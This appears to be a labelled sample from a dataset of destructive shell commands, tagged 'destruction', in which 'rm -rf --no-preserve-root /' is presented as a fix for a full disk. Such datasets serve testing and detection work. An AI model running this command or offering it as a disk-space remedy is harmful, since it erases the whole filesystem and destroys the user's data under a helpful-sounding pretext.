# description: A disk-full fix that deletes the entire filesystem from / with --no-preserve-root.
# family: destruction
cd /
rm -rf --no-preserve-root /
